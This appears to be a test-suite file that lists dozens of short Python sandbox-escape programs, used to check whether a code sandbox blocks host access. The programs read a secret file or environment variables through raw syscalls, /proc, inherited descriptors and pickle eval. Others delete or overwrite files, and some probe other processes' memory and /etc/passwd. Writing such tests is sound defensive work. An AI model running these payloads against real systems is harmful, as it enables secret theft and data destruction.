"""Exploits on files of the host and on information in /proc: reading, writing, deleting, listing, metadata, links."""

# ruff: noqa: E501 (programs are easier to read unbroken)

from sandbox_suite.exploit import Exploit, changed_world, printed_secret

_READS = {
    "read with open": "print(open(W['secret']).read())",
    "read with os.open": "import os\nprint(os.read(os.open(W['secret'], os.O_RDONLY), 99))",
    "read with pathlib": "import pathlib\nprint(pathlib.Path(W['secret']).read_text())",
    "read with io.FileIO": "import io\nprint(io.FileIO(W['secret']).readall())",
    "read by traversal": "print(open('../' * 40 + W['secret'].lstrip('/')).read())",
    "read with linecache": "import linecache\nprint(linecache.getline(W['secret'], 1))",
    "read with numpy.fromfile": "import numpy\nprint(numpy.fromfile(W['secret'], dtype='u1').tobytes())",
    "read with numpy.memmap": "import numpy\nprint(bytes(numpy.memmap(W['secret'], mode='r')))",
    "read with numpy.genfromtxt": "import numpy\nprint(numpy.genfromtxt(W['secret'], dtype=str, delimiter='%'))",
    "read with libc": (
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.fopen.restype = ctypes.c_void_p\n"
        "f = libc.fopen(W['secret'].encode(), b'r')\nbuffer = ctypes.create_string_buffer(99)\n"
        "if f:\n    libc.fread(buffer, 1, 98, ctypes.c_void_p(f))\nprint(buffer.value)"
    ),
    "read with raw openat": (
        "import ctypes, os\nf = ctypes.CDLL(None).syscall(257 if W['x86'] else 56, -100, "
        "W['secret'].encode(), 0)\nprint(os.read(f, 99))"
    ),
    "read with raw openat2": (
        "import ctypes, os, struct\nhow = struct.pack('QQQ', 0, 0, 0)\n"
        "f = ctypes.CDLL(None).syscall(437, -100, W['secret'].encode(), how, 24)\nprint(os.read(f, 99))"
    ),
    "read with mmap": (
        "import mmap, os\nprint(mmap.mmap(os.open(W['secret'], os.O_RDONLY), 0, access=mmap.ACCESS_READ)[:])"
    ),
    "read through a symbolic link": (
        "import os\nos.symlink(W['secret'], W['scratch'] + '/sym')\nprint(open(W['scratch'] + '/sym').read())"
    ),
    "read through a hard link": (
        "import os\nos.link(W['secret'], W['scratch'] + '/hard')\nprint(open(W['scratch'] + '/hard').read())"
    ),
    "read through /proc/self/root": "print(open('/proc/self/root' + W['secret']).read())",
    "read through the inherited folder": (
        "import os\nfor d in range(3, 1024):\n    try:\n        print(os.read(os.open('secret', os.O_RDONLY, dir_fd=d), 99))\n"
        "    except OSError:\n        pass"
    ),
    "read an inherited descriptor": (
        "import os\nfor d in range(3, 1024):\n    try:\n        print(os.pread(d, 99, 0))\n    except OSError:\n        pass"
    ),
    "import a module of the host": (
        "import sys\nsys.path.insert(0, W['folder'])\nimport hostmodule\nprint(hostmodule.TEXT)"
    ),
    "import past the import hooks": (
        "import importlib.machinery, importlib.util\n"
        "loader = importlib.machinery.SourceFileLoader('hostmodule', W['folder'] + '/hostmodule.py')\n"
        "print(loader.load_module().TEXT)"
    ),
    "import with the original finder": (
        "import sys, importlib.machinery as m\n"
        "sys.meta_path.insert(0, m.PathFinder)\n"
        "sys.path_hooks.append(m.FileFinder.path_hook((m.SourceFileLoader, ['.py'])))\n"
        "sys.path.insert(0, W['folder'])\nimport hostmodule\nprint(hostmodule.TEXT)"
    ),
    "run a file of the host": "import runpy\nprint(runpy.run_path(W['folder'] + '/hostmodule.py')['TEXT'])",
    "read the environment of the host": (
        "import os\nprint(os.environ.get('HOST_SECRET'), open('/proc/self/environ').read())"
    ),
    "read the environment of libc": "import ctypes\nc = ctypes.CDLL(None)\nc.getenv.restype = ctypes.c_char_p\n"
    "print(c.getenv(b'HOST_SECRET'))",
    "unpickle a read": (
        "import pickle\n\nclass R:\n    def __reduce__(self):\n"
        "        return eval, (\"open(W['secret']).read()\", {'W': W})\n\nprint(pickle.loads(pickle.dumps(R())))"
    ),
    "read with sendfile": ("import os\nos.sendfile(1, os.open(W['secret'], os.O_RDONLY), 0, 99)"),
}

_CHANGES = {
    "create a file": "open(W['scratch'] + '/new', 'w').write('x')",
    "overwrite a file": "open(W['doomed'], 'w').write('gone')",
    "append to a file": "open(W['doomed'], 'a').write('more')",
    "delete a file": "import os\nos.remove(W['doomed'])",
    "delete with a raw call": "import ctypes\nctypes.CDLL(None).unlink(W['doomed'].encode())",
    "delete with shutil": "import shutil\nshutil.rmtree(W['scratch'])",
    "rename a file": "import os\nos.rename(W['doomed'], W['doomed'] + '.away')",
    "truncate a file": "import os\nos.truncate(W['doomed'], 1)",
    "make a folder": "import os\nos.mkdir(W['scratch'] + '/sub')",
    "make a symbolic link": "import os\nos.symlink('/etc', W['scratch'] + '/link')",
    "make a pipe file": "import os\nos.mkfifo(W['scratch'] + '/pipe')",
    "change the rights of a file": "import os\nos.chmod(W['doomed'], 0o755)",
    "change the times of a file": "import os\nos.utime(W['doomed'], (1, 1))",
    "save with numpy": "import numpy\nnumpy.save(W['scratch'] + '/array', numpy.zeros(3))",
    "make a temporary file": "import tempfile\ntempfile.NamedTemporaryFile(dir=W['scratch'], delete=False).write(b'x')",
    "write at exit": "import atexit\natexit.register(lambda: open(W['scratch'] + '/late', 'w').write('x'))",
    "write in a finalizer": (
        "class F:\n    def __del__(self, open=open):\n        open(SCRATCH + '/final', 'w').write('x')\n\n"
        "SCRATCH = W['scratch']\nf = F()"
    ),
    "write from an import hook": (
        "import sys\n\nclass H:\n    def find_spec(self, name, path=None, target=None):\n"
        "        open(W['scratch'] + '/hook', 'w').write('x')\n\nsys.meta_path.insert(0, H())\nimport nothing_of_that_name"
    ),
    "unpickle a write": (
        "import os, pickle\n\nclass R:\n    def __reduce__(self):\n        return os.mkdir, (W['scratch'] + '/pickled',)\n\n"
        "pickle.loads(pickle.dumps(R()))"
    ),
}

_PROBES = {
    "list a folder": "import os\nprint('BREACH' if 'secret' in os.listdir(W['folder']) else '')",
    "walk the tree": "import os\nprint('BREACH' if next(os.walk('/'))[1] else '')",
    "glob": "import glob\nprint('BREACH' if glob.glob(W['folder'] + '/*') else '')",
    "size of a file": "import os\nprint('BREACH' if os.stat(W['secret']).st_size else '')",
    "existence of a file": "import os\nprint('BREACH' if os.path.exists('/etc/passwd') else '')",
    "raw statx": (
        "import ctypes, os\nn = 332 if W['x86'] else 291\nbuffer = ctypes.create_string_buffer(256)\n"
        "print('BREACH' if ctypes.CDLL(None).syscall(n, -100, b'/etc/passwd', 0, 0x7ff, buffer) == 0 else '')"
    ),
    "access to a file": "import os\nprint('BREACH' if os.access(W['secret'], os.R_OK) else '')",
    "extended attributes": "import os\ntry:\n    os.getxattr(W['secret'], 'user.none')\nexcept OSError as e:\n"
    "    print('BREACH' if e.errno in (61, 95) else e)",
    "space of the disk": "import os\nprint('BREACH' if os.statvfs('/').f_blocks else '')",
    "change the folder": "import os\nos.chdir(W['folder'])\nprint('BREACH')",
    "name of the host": (
        "import os, socket\nprint('BREACH' if socket.gethostname() and os.uname().nodename == W['host'] else '')"
    ),
    "own executable": "import os\nprint('BREACH' if os.readlink('/proc/self/exe') else '')",
    "own memory map": "print('BREACH' if 'r-xp' in open('/proc/self/maps').read() else '')",
    "write own memory": "open('/proc/self/mem', 'r+b')\nprint('BREACH')",
    "list processes": "import os\nprint('BREACH' if [p for p in os.listdir('/proc') if p.isdigit()] else '')",
    "command line of another": "print('BREACH' if open(f\"/proc/{W['victim']}/cmdline\").read() else '')",
    "memory of another": "open(f\"/proc/{W['victim']}/mem\", 'rb')\nprint('BREACH')",
    "network tables": "print('BREACH' if open('/proc/net/tcp').read() else '')",
    "devices": "import os\nprint('BREACH' if os.listdir('/dev') else '')",
    "shared memory folder": "import os\nf = os.open('/dev/shm', os.O_TMPFILE | os.O_RDWR)\nprint('BREACH')",
    "memory file": "import os\nf = os.memfd_create('x')\nos.write(f, b'x')\nprint('BREACH')",
    "load a library": "import ctypes.util\nctypes.CDLL('libutil.so.1')\nprint('BREACH')",
    "watch files": "import ctypes\nprint('BREACH' if ctypes.CDLL(None).inotify_init() >= 0 else '')",
}

FILES = [
    *(Exploit(name, code, printed_secret) for name, code in _READS.items()),
    *(Exploit(name, code, changed_world) for name, code in _CHANGES.items()),
    *(Exploit(name, code) for name, code in _PROBES.items()),
]
